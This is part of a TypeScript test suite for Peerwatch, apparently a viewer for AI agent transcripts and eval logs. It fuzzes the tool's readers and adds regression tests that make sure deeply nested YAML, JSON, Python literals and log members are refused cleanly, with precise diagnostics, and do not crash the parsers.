      problem = e instanceof Finding ? `malformed result: ${e.message}` : `uncaught ${e instanceof Error ? `${e.name}: ${e.message}\n${e.stack?.split('\n').slice(1, 6).join('\n')}` : String(e)}`;
    }
    const ms = cpuMs() - c0;
    const wallMs = performance.now() - t0;
    if (ms > fig.slowestMs) fig.slowestMs = ms;
    if (wallMs > fig.slowestWallMs) fig.slowestWallMs = wallMs;
    if (ms > figures.slowest.ms) figures.slowest = { reader: target.reader, index, ms, wallMs, seedFile: seedFile.name, mutations: applied };
    if (ms > HANG_MS) {
      fig.hangs++;
      figures.hangs++;
      problem = `${problem ? problem + '; ' : ''}took ${ms.toFixed(0)} ms of CPU time, ${wallMs.toFixed(0)} ms wall (limit ${HANG_MS} ms)`;
    } else if (problem) {
      fig.crashes++;
      figures.crashes++;
    }
    if (problem) {
      mkdirSync(outDir, { recursive: true });
      const file = join(outDir, `seed${seed}-input${index}-${target.reader.replace(/[^A-Za-z0-9]+/g, '_')}.${target.ext}`);
      writeFileSync(file, target.bytesOf ? target.bytesOf(input, seedFile, rng) : input);
      if (figures.failures.length < 20)
        figures.failures.push(`seed ${seed}, reader "${target.reader}", input ${index} (${seedFile.name} after ${applied.join(', ')}): ${problem}\n  written to ${rel(file)}`);
    }
  }
  figures.totalMs = performance.now() - started;
  return figures;
}

export function figuresText(f: FuzzFigures): string {
  const rows = Object.entries(f.perReader).map(([r, x]) => `  ${r.padEnd(52)} ${String(x.inputs).padStart(7)} inputs  ${x.crashes} crashes  ${x.hangs} hangs  slowest ${x.slowestMs.toFixed(0)} ms CPU (${x.slowestWallMs.toFixed(0)} ms wall)`);
  return [
    `fuzz: seed ${f.seed}, ${f.inputs} inputs, ${f.crashes} crashes, ${f.hangs} hangs (> ${HANG_MS} ms of CPU time), total ${(f.totalMs / 1000).toFixed(1)} s`,
    ...rows,
    `  slowest input: #${f.slowest.index} (${f.slowest.reader}, ${f.slowest.seedFile} after ${f.slowest.mutations.join(', ')}) ${f.slowest.ms.toFixed(0)} ms CPU, ${f.slowest.wallMs.toFixed(0)} ms wall`,
  ].join('\n');
}

describe('fuzz: every reader, seeded', function () {
  this.timeout(Math.max(120_000, INPUTS * 40));

  it(`reads ${INPUTS} mutated inputs (seed ${SEED}) with only documented errors, none over ${HANG_MS} ms, results well formed`, async () => {
    const figures = await fuzz(INPUTS, SEED);
    if (process.env.FUZZ_REPORT) writeFileSync(process.env.FUZZ_REPORT, JSON.stringify(figures, null, 2));
    console.log(figuresText(figures));
    assert.equal(figures.failures.length, 0, `${figures.crashes} crashes and ${figures.hangs} hangs:\n${figures.failures.join('\n')}`);
    if (!process.env.FUZZ_ONLY) for (const [reader, x] of Object.entries(figures.perReader)) assert.ok(x.inputs >= Math.floor(INPUTS / Object.keys(figures.perReader).length), `${reader} got only ${x.inputs} inputs`);
  });
});

// Each crash or hang the fuzz found, as a small named input (they failed before their fix).
describe('fuzz findings', () => {
  function timed<T>(f: () => T): { value: T; ms: number } {
    const t0 = performance.now();
    const value = f();
    return { value, ms: performance.now() - t0 };
  }

  it('YAML nested thousands of levels deep is refused at its place with the nesting limit, quickly, not as a stack overflow', () => {
    for (const deep of ['[', '{a: ', '- ']) {
      const text = 'version: 1\nweightFiles: ' + (deep === '- ' ? '\n' : '') + deep.repeat(5000) + 'x\n';
      const { value: r, ms } = timed(() => readYaml(text));
      assert.ok(ms < 500, `${ms} ms`);
      assert.equal(r.value, undefined);
      assert.equal(r.error?.line, deep === '- ' ? 3 : 2, JSON.stringify(r.error));
      assert.equal(r.error?.message, 'expected at most 200 levels of nesting, found nesting deeper than 200');
    }
    // 150 levels still read.
    assert.equal(readYaml('a: ' + '['.repeat(150) + ']'.repeat(150)).error, undefined);
  });

  it('tool-call arguments sent as a JSON string nested thousands of levels are kept as text with a warning; the run shows and is tagged', () => {
    // Found once the fuzz test also ran the detectors and the editor's summaries (seed 20261206):
    // JSON.parse reads any depth, and the call's summary recursed into the value until the stack ran out.
    const file = 'openai-responses-exfiltration-peer.json';
    const doc = JSON.parse(readFileSync(join(root, 'examples', 'providers', file), 'utf8')) as { response: { output: Array<Record<string, unknown>> } };
    const call = doc.response.output.find((o) => o['type'] === 'function_call')!;
    call['arguments'] = '{"filenames": ' + '['.repeat(5000) + '"x"' + ']'.repeat(5000) + '}';
    const t = parseTranscript({ fileName: file, text: JSON.stringify(doc) });
    const e = t.events.find((x) => x.kind === 'tool_call' && x.arguments['_raw'] !== undefined);
    assert.ok(e, 'the call is kept, its arguments as text');
    assert.ok(t.diagnostics.some((d) => d.severity === 'warning' && /\$\.response\.output\[\d+\]\.arguments/.test(d.message) && /JSON nested deeper than 1,000 levels, which Peerwatch does not read/.test(d.message)), JSON.stringify(t.diagnostics));
    checkTranscript(t, file);
    // Within the limit, the value is read as before.
    call['arguments'] = '{"filenames": ' + '['.repeat(900) + '"x"' + ']'.repeat(900) + '}';
    const ok = parseTranscript({ fileName: file, text: JSON.stringify(doc) });
    assert.ok(ok.events.some((x) => x.kind === 'tool_call' && Array.isArray(x.arguments['filenames'])));
    checkTranscript(ok, file);
  });

  it('deep YAML after a block scalar or a folded plain scalar whose line starts with a quote is still refused at its place', () => {
    // Found by the long fuzz run (seed 5150): a line of a `|` block (`"rust score: 3.4/10`) was taken
    // for the start of a quoted scalar, so the scan read quotes where the YAML had none and missed
    // the nesting further on; the package then recursed until the stack ran out (1.5 s, a vague place).
    const deep = '['.repeat(5000) + 'x' + ']'.repeat(5000);
    for (const before of [
      'content: |\n  "Trust score: 3.4/10\n  it\'s fine\n',
      'note: >-\r\n    \'quoted at a line start\r\n\r\n    on two lines\r\n',
      'summary: a plain scalar\n  "folded onto a second line\n',
      'docs:\n  - title: x\n    body: |\n      "a quote\n',
    ]) {
      const text = `version: 1\n${before}queue: ${deep}\n`;
      const line = text.slice(0, text.indexOf('queue:')).split('\n').length;
      const { value: r, ms } = timed(() => readYaml(text));
      assert.ok(ms < 500, `${ms} ms`);
      assert.equal(r.error?.code, 'NESTING_TOO_DEEP', JSON.stringify(r.error));
      assert.equal(r.error?.line, line);
      // The text before it reads as the package reads it: without the deep value, the same strings.
      const plain = readYaml(`version: 1\n${before}`);
      assert.equal(plain.error, undefined, JSON.stringify(plain.error));
    }
  });

  it('a scenario or rules file nested thousands of levels deep names file, line and column', () => {
    const text = readFileSync(join(root, 'scenarios', 'tampering.yaml'), 'utf8').replace(/\nworld:/, '\nnested: ' + '['.repeat(4000) + '\nworld:');
    const line = text.slice(0, text.indexOf('nested: ')).split('\n').length;
    const { ms } = timed(() =>
      assert.throws(
        () => parseScenario('tampering.yaml', text),
        (e: unknown) => e instanceof ScenarioError && new RegExp(`^tampering\\.yaml:${line}:\\d+: expected at most 200 levels of nesting`).test(e.message),
      ),
    );
    assert.ok(ms < 500, `${ms} ms`);
    const rules = parseRules('rules.yaml', 'version: 1\ntags: ' + '{a: '.repeat(3000) + '1\n');
    assert.match(rules.diagnostics[0]!.message, /^rules\.yaml:2:\d+: .*expected at most 200 levels of nesting/);
  });

  it('a run-log line with a syntax error inside a value nested past 1,000 levels is one diagnostic, in readRunlog and in the index', () => {
    const lines = readFileSync(join(root, 'examples', 'runlog', 'in-progress-exfiltration_deletion.runlog.jsonl'), 'utf8').split('\n');
    // JSON.parse refuses the line; the tolerant reader skips the deep value unread and finds nothing wrong.
    lines.splice(3, 0, '{"type":"event","kind":"message","args":' + '['.repeat(1500) + '{"x" 1}' + ']'.repeat(1500) + '}');
    const text = lines.join('\n');
    const expected = /^in-progress\.runlog\.jsonl:4:\d+: line 4 nests deeper than 1,000 levels and is not read/;
    const t = readRunlog('in-progress.runlog.jsonl', text);
    const ref = readRunlog('in-progress.runlog.jsonl', lines.filter((_, i) => i !== 3).join('\n'));
    assert.equal(t.events.length, ref.events.length, 'every other event is read');
    assert.deepEqual(t.diagnostics.filter((d) => d.line === 4).map((d) => expected.test(d.message)), [true], JSON.stringify(t.diagnostics));
    const idx = new RunlogIndex('in-progress.runlog.jsonl');
    idx.push(Buffer.from(text, 'utf8'));
    idx.finish();
    assert.equal(idx.count, ref.events.length);
    assert.deepEqual(idx.diagnostics.filter((d) => d.line === 4).map((d) => expected.test(d.message)), [true], JSON.stringify(idx.diagnostics));
    const decoded = RunlogIndex.decodeEvent(lines[3]!, 2, 4, 'in-progress.runlog.jsonl');
    assert.ok('diagnostic' in decoded && expected.test(decoded.diagnostic.message), JSON.stringify(decoded));
  });

  it('an Inspect log member nested thousands of levels deep is named in a diagnostic; the log still lists and its samples open', async () => {
    const seed = await evalSeed(join(root, 'examples', 'inspect', 'peer_tampering.eval'));
    const deep = '{"s":'.repeat(5000) + '1' + '}'.repeat(5000);
    const members = seed.members.map((m) => (m.name === 'summaries.json' ? { name: m.name, data: Buffer.from(m.data.toString('utf8').replace(/"scores":\s*\{/, `"scores":{"deep":${deep},`)) } : m));
    assert.ok(members.some((m) => m.name === 'summaries.json' && m.data.length > 20_000), 'the summaries hold the deep score');
    const log = await openEvalLog('deep.eval', bufferSource(writeZip(members)), nodeCodecs);
    assert.ok(log.diagnostics.some((d) => /^deep\.eval: .*summaries\.json.*nests deeper than 1,000 levels/.test(d.message)), JSON.stringify(log.diagnostics));
    assert.ok(log.samples.length > 0, 'the samples are listed from their own members');
    assert.ok((await log.readSample(log.samples[0]!.key)).events.length > 0);
    // The same value in a sample: reading that sample is refused with a message naming file and member.
    const inSample = seed.members.map((m) => (m.name.startsWith('samples/') ? { name: m.name, data: Buffer.from(m.data.toString('utf8').replace(/^\{/, `{"deep":${deep},`)) } : m));
    const log2 = await openEvalLog('deep.eval', bufferSource(writeZip(inSample)), nodeCodecs);
    await assert.rejects(log2.readSample(log2.samples[0]!.key), /^(ZipMemberError: )?deep\.eval: .*samples\/.*nests deeper than 1,000 levels/);
  });

  it('a Python literal nested thousands of levels deep (a config tool answer) is refused, not a stack overflow', () => {
    for (const open of ['[', '(', '{1: ']) {
      const r = parsePythonLiteral(open.repeat(5000));
      assert.equal(r.ok, false);
      assert.match((r as { error: string }).error, /^expected at most 1,000 levels of nesting$/);
    }
    assert.deepEqual(parsePythonLiteral('[' .repeat(900) + ']'.repeat(900)).ok, true);
  });

  it('a config tool answering with JSON nested thousands of levels deep leaves the run readable (found reading the code the fuzz led to)', () => {
    const doc = JSON.parse(readFileSync(join(root, 'examples', 'study', 'tampering-shutdown-tampering-peer-good_peer.json'), 'utf8'));
    const reference = parseTranscript({ fileName: 'deep.json', text: JSON.stringify(doc) });
    const answer = doc.conversation.find((m: { role: string; content: unknown }) => m.role === 'tool' && typeof m.content === 'string' && m.content.startsWith("{'shutdown_enabled'"));
    answer.content = '{"a":'.repeat(5000) + '1' + '}'.repeat(5000);
    const t = parseTranscript({ fileName: 'deep.json', text: JSON.stringify(doc) });
    assert.equal(t.events.length, reference.events.length, 'every event is there');
    assert.ok(t.events.some((e) => JSON.stringify(e).includes('{\\"a\\":{\\"a\\"')), 'the answer is shown as it was written');
  });

  it('a config value nested 999 levels deep (within the JSON limit) is written as YAML with the deep part noted, and the run opens', () => {
    let deep: unknown = 'False';
    for (let i = 0; i < 999; i++) deep = { a: deep };
    const doc = JSON.parse(readFileSync(join(root, 'examples', 'providers', 'anthropic-messages-tampering-peer.json'), 'utf8'));
    const text = JSON.stringify(doc).split('"value":"False"').join(`"value":${JSON.stringify(deep)}`);
    assert.notEqual(text, JSON.stringify(doc), 'the modify_var value was replaced');
    const t = parseTranscript({ fileName: 'deep.json', text });
    const change = t.events.find((e) => e.kind === 'config_change');
    assert.ok(change, 'the config change is shown');
    assert.match(JSON.stringify(change), /nested deeper than 200 levels: not shown/);
    assert.match(writeYaml({ v: deep }), /- |a: '\[nested deeper than 200 levels: not shown\]'/);
  });
});
